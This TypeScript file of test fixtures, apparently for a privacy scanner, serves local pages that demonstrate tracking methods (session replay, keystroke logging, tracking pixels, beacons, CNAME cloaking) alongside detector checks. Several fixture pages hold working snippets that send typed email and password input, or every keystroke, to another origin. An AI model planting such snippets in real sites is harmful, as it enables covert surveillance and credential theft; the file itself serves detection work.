import { fromPackage } from './from-package.ts';
import { behaviour, image, requested, script, type Phenomenon } from './phenomenon.ts';

/** A transparent GIF of one pixel. */
const dot = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

/** What watches people, and what it sends. */
export const watching: Phenomenon[] = [
  {
    host: 'recorder',
    what: 'a recorder that watches the whole document',
    answers: (origin) => ({
      'recorder/': `<script src="${origin('replay')}/record.js"></script>`,
      'replay/record.js':
        script(`const events = []; for (const type of ['input', 'mousemove', 'scroll', 'click'])
        document.addEventListener(type, () => events.push(type), true);
        new MutationObserver(() => {}).observe(document, { subtree: true, childList: true });
        setInterval(() => fetch('${origin('replay')}/take', { method: 'POST', body: JSON.stringify(events) }), 200)`),
      'replay/take': 'x',
    }),
    isSeen: (page) => {
      const seen = behaviour(page, '/record.js');
      const hears = ['input', 'mousemove', 'scroll'].every((type) => seen?.listeners.includes(type));
      return hears && seen?.watchesDocument === true && requested(page, '/take')?.method === 'POST';
    },
    trackers: ['sessionReplay'],
  },
  {
    host: 'typing',
    what: 'what is typed is sent without being submitted',
    answers: (origin) => ({
      'typing/': `<input id="mail" type="email"><input type="password" id="secret"><script>
        const send = (path) => ({ target }) => fetch('${origin('hop')}' + path, { method: 'POST', body: target.value });
        mail.addEventListener('input', send('/typed')); secret.addEventListener('input', send('/password'))</script>`,
      'hop/typed': 'x',
      'hop/password': 'x',
    }),
    isSeen: (page) =>
      page.requests.some(
        ({ url, carriesTyped }) => url.includes('/typed') && carriesTyped?.how === 'plain',
      ) && !requested(page, '/password'),
    trackers: ['keyLogging'],
  },
  {
    host: 'typing-hashed',
    what: 'what is typed is sent as its hash',
    answers: (origin) => ({
      'typing-hashed/': `<input id="mail"><script>mail.addEventListener('keyup', async () => {
        const bytes = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(mail.value.toLowerCase()));
        const hex = [...new Uint8Array(bytes)].map((byte) => byte.toString(16).padStart(2, '0')).join('');
        fetch('${origin('hop')}/hash?h=' + hex); })</script>`,
      'hop/hash': 'x',
    }),
    isSeen: (page) =>
      page.requests.some(({ carriesTyped: typed }) => typed?.how === 'sha256' && typed.where === 'url'),
    trackers: ['keyLogging'],
  },
  {
    host: 'rrweb',
    what: 'a recorder that anybody can take: rrweb',
    answers: (origin) => ({
      'rrweb/': `<p>Read me</p><input><script src="${origin('recording')}/rrweb.js"></script><script>
        const held = []; rrweb.record({ emit: (event) => held.push(event) });
        setInterval(() => held.length && fetch('${origin('recording')}/events', { method: 'POST', body: JSON.stringify(held.splice(0)) }), 300)
        </script>`,
      'recording/rrweb.js': script(fromPackage('rrweb', 'rrweb.umd.min.cjs')),
      'recording/events': 'x',
    }),
    isSeen: (page) =>
      behaviour(page, '/rrweb.js')?.watchesDocument === true && requested(page, '/events')?.method === 'POST',
    trackers: ['keyLogging', 'sessionReplay'],
  },
  {
    host: 'own-recorder',
    what: 'a recorder that the site runs itself',
    answers: () => ({
      'own-recorder/': '<script src="/own-record.js"></script>',
      'own-recorder/own-record.js':
        script(`const events = []; for (const type of ['mousemove', 'scroll', 'click'])
        document.addEventListener(type, () => events.push(type), true);
        new MutationObserver(() => {}).observe(document, { subtree: true, childList: true });
        setInterval(() => fetch('/own-take', { method: 'POST', body: JSON.stringify(events) }), 150)`),
      'own-recorder/own-take': 'x',
    }),
    isSeen: (page) => behaviour(page, '/own-record.js')?.watchesDocument === true,
    trackers: ['sessionReplay'],
  },
  {
    host: 'key-by-key',
    what: 'what is typed is sent key by key',
    answers: (origin) => ({
      'key-by-key/': `<input id="name"><script>addEventListener('keydown', ({ key }) =>
        fetch('${origin('keys')}/key?t=' + Date.now() + '&k=' + encodeURIComponent(key)))</script>`,
      'keys/key': 'x',
    }),
    isSeen: (page) =>
      page.requests.some(({ url, carriesTyped }) => url.includes('keys.') && carriesTyped?.how === 'keys'),
    trackers: ['keyLogging'],
  },
  {
    host: 'key-list',
    what: 'the keys that were pressed are sent as a list',
    answers: (origin) => ({
      'key-list/': `<input id="name"><script>const keys = []; addEventListener('keydown', ({ key }) => keys.push({ key, at: 1 }));
        setInterval(() => keys.length && fetch('${origin('hop')}/key-list', { method: 'POST', body: JSON.stringify(keys) }), 200)</script>`,
      'hop/key-list': 'x',
    }),
    isSeen: (page) =>
      page.requests.some(
        ({ url, carriesTyped }) => url.includes('/key-list') && carriesTyped?.how === 'keys',
      ),
    trackers: ['keyLogging'],
  },
  {
    host: 'pixelled',
    what: 'a picture of one dot with a number for the visitor',
    answers: (origin) => ({
      'pixelled/': `<script>new Image().src = '${origin('dots')}/dot.gif?uid=' + crypto.randomUUID()</script>`,
      'dots/dot.gif': { body: dot, type: 'image/gif' },
    }),
    isSeen: (page) => requested(page, '/dot.gif')?.parameters[0]?.shape.kind === 'uuid',
    trackers: ['pixel'],
  },
  {
    host: 'messaged',
    what: 'a message that waits for no answer',
    answers: (origin) => ({
      'messaged/': `<script>navigator.sendBeacon('${origin('hop')}/beacon', 'visit')</script>`,
      'hop/beacon': 'x',
    }),
    isSeen: (page) => requested(page, '/beacon')?.type === 'ping',
    trackers: ['beacon'],
  },
  {
    host: 'cloaked',
    what: 'a host of the site that somebody else runs',
    answers: (origin) => ({
      'cloaked/': `<img src="${origin('metrics.cloaked')}/i.svg"><img src="${origin('images.cloaked')}/i.svg">`,
      'metrics.cloaked/i.svg': image({ 'set-cookie': 'cloaked=1; Path=/' }),
      'images.cloaked/i.svg': image(),
    }),
    isSeen: (page) => page.cnames.length === 1 && page.cnames[0]?.target === 'collect.tracker.example',
    trackers: ['cnameCloaking'],
    cnames: {
      'metrics.cloaked.localhost': 'alias.cloaked.localhost',
      'alias.cloaked.localhost': 'collect.tracker.example',
      'images.cloaked.localhost': 'storage.cloaked.localhost',
    },
  },
];
